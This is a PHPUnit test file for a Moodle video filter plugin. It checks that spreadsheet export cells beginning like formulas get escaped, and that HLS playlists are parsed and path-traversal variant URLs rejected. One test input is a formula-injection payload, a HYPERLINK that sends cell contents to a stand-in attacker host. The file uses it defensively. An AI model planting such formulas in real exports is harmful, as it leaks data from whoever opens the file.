<?php
// This file is part of Moodle - http://moodle.org/
//
// Moodle is free software: you can redistribute it and/or modify
// it under the terms of the GNU General Public License as published by
// the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
//
// Moodle is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
// GNU General Public License for more details.
//
// You should have received a copy of the GNU General Public License
// along with Moodle.  If not, see <http://www.gnu.org/licenses/>.

namespace filter_hlsgate\tests\core;

use filter_hlsgate\local\playlist_parser;
use filter_hlsgate\local\spreadsheet_cell;
use PHPUnit\Framework\TestCase;

#[\PHPUnit\Framework\Attributes\CoversClass(\filter_hlsgate\local\spreadsheet_cell::class)]
#[\PHPUnit\Framework\Attributes\CoversClass(\filter_hlsgate\local\playlist_parser::class)]
/**
 * Download cells that a spreadsheet keeps as text; a video's duration from its playlists.
 *
 * @package    filter_hlsgate
 * @copyright  2026 hlsgate
 * @license    http://www.gnu.org/copyleft/gpl.html GNU GPL v3 or later
 */
final class SpreadsheetCellTest extends TestCase {
    /**
     * Cells that start like a formula get an apostrophe.
     */
    public function test_formula_starts_get_an_apostrophe(): void {
        $this->assertSame(
            '\'=HYPERLINK("http://evil.example/?x="&A1,"Kim")',
            spreadsheet_cell::escape('=HYPERLINK("http://evil.example/?x="&A1,"Kim")')
        );
        foreach (['+1', '-1+2', '@SUM(A1)', "\t=1", "\r=1"] as $cell) {
            $this->assertSame("'" . $cell, spreadsheet_cell::escape($cell), json_encode($cell));
        }
        foreach (['Kim', '', '12.5', 'a=b', ' =1', 3, 4.5, null] as $cell) {
            $this->assertSame($cell, spreadsheet_cell::escape($cell), json_encode($cell));
        }
    }

    /**
     * A video's duration is the sum of the EXTINF of its first variant.
     */
    public function test_duration_is_the_sum_of_extinf_of_the_first_variant(): void {
        $master = "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=800000\n360p/index.m3u8\n"
            . "#EXT-X-STREAM-INF:BANDWIDTH=2000000\n720p/index.m3u8\n";
        $base = 'https://media.example.test/lectures/AbCdEfGhIjKlMnOpQrSt12/';
        $this->assertSame($base . '360p/index.m3u8', playlist_parser::first_variant($master, $base . 'master.m3u8'));
        $absolute = "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=800000\n{$base}360p/index.m3u8\n";
        $this->assertSame($base . '360p/index.m3u8', playlist_parser::first_variant($absolute, $base . 'master.m3u8'));
        $media = "#EXTM3U\n#EXT-X-TARGETDURATION:6\n#EXTINF:6.000,\nseg0.ts\n#EXTINF:6.000,\nseg1.ts\n#EXTINF:2.5,\nseg2.ts\n"
            . "#EXT-X-ENDLIST\n";
        $this->assertSame(14.5, playlist_parser::media_duration($media));
        $this->assertNull(playlist_parser::first_variant($media, $base . 'master.m3u8'));
        $this->expectException(\filter_hlsgate\local\playback_error::class);
        playlist_parser::first_variant("#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n../../other/index.m3u8\n", $base . 'master.m3u8');
    }
}
